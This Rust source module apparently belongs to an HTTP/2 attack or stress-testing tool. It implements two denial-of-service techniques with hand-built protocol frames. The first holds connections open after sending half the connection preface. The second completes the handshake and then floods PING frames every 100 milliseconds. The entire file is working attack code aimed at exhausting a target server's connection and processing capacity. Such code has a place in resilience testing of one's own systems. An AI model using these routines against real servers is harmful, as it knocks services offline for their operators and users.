//! HTTP/2 that leads nowhere: half a preface, and connections that do nothing but PING (RFC 9113 §3.4, §6.7).

use std::time::Duration;

use super::connections::{Script, held};
use super::requests::Requests;
use super::{AttackError, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Empty SETTINGS, and the acknowledgement of the server's.
const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
const SETTINGS_ACK: [u8; 9] = [0, 0, 0, 4, 1, 0, 0, 0, 0];
const PING: [u8; 17] = [0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];

pub(super) fn half_prefaces(target: &Target) -> Result<Requests, AttackError> {
    let (_, to) = target.plain_http()?;
    let first = PREFACE[..PREFACE.len() / 2].to_vec();
    held(target, "half-prefaces", to, vec![Script { first, then: Vec::new(), every: Duration::from_secs(3600) }])
}

pub(super) fn pings(target: &Target) -> Result<Requests, AttackError> {
    let (_, to) = target.plain_http()?;
    let first = [PREFACE, &SETTINGS, &SETTINGS_ACK].concat();
    held(target, "pings", to, vec![Script { first, then: PING.to_vec(), every: Duration::from_millis(100) }])
}
